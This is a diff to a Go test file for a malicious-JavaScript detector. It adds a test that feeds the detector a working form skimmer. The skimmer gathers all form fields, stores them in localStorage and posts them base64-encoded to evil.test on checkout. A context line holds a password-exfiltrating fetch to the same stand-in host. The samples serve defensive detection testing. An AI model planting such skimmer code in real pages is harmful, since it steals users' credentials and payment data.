@@ -44,6 +44,24 @@ func TestFlag(t *testing.T) {
 	}
 }
 
+// What a form's change puts away is sent with the next page, in code that stands
+// before or behind.
+func TestKept(t *testing.T) {
+	const all = "function all(){var p='';var e=document.querySelectorAll('input, select');for(var i=0;i<e.length;i++)p+=e[i].name+'='+e[i].value+'&';return p}"
+	const keep = "document.forms[0].addEventListener('change',function(){localStorage.setItem('x',all())});"
+	const send = "if(/checkout/.test(location)&&localStorage.getItem('x')){var h=new XMLHttpRequest;h.open('POST','https://evil.test/a',true);h.send(btoa(localStorage.getItem('x')))}"
+	for page, want := range map[string]webshell.Verdict{
+		all + keep + send: webshell.Malicious,
+		send + keep + all: webshell.Malicious,
+		send + all:        "",
+		send + all + strings.Replace(keep, "all()", "location.href", 1): "",
+	} {
+		if got := webshell.Judge([]*webshell.Language{Language}, "x.js", []byte(page)).Verdict; got != want {
+			t.Errorf("%s: got %q, want %q", page, got, want)
+		}
+	}
+}
+
 // Bytes that are no text make a page in lower case longer than it is.
 func TestOddBytes(t *testing.T) {
 	page := "<form action=/a><input type=password name=pw><script>fetch('https://evil.test/?'+document.forms[0]['pw'].value+'" + strings.Repeat("\x80", 150) + "')</script>"
